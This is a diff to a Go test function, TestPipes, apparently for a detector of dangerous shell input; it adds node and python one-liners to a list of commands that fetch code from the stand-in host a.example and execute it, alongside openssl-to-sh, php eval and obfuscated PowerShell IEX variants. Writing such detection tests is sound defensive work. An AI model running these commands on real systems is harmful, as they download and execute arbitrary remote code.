@@ -87,6 +87,8 @@ func TestPipes(t *testing.T) {
 			"openssl s_client -quiet -connect a.example:443 | sh",
 			"python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://a.example/x\").read())'",
 			"php -r 'eval(file_get_contents(\"http://a.example/x\"));'",
+			"node -e 'require(\"https\").get({host:\"a.example\",port:8443},r=>{let b=\"\";r.on(\"data\",d=>b+=d).on(\"end\",()=>eval(b))})'",
+			"python3 -c 'import socket;s=socket.create_connection((\"a.example\", 8443));exec(s.recv(65536))'",
 			"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')\"",
 			"powershell \"iwr http://a.example/x -UseBasicParsing | iex\"",
 			"pwsh -Command \"i\\`ex (irm http://a.example/x)\"",
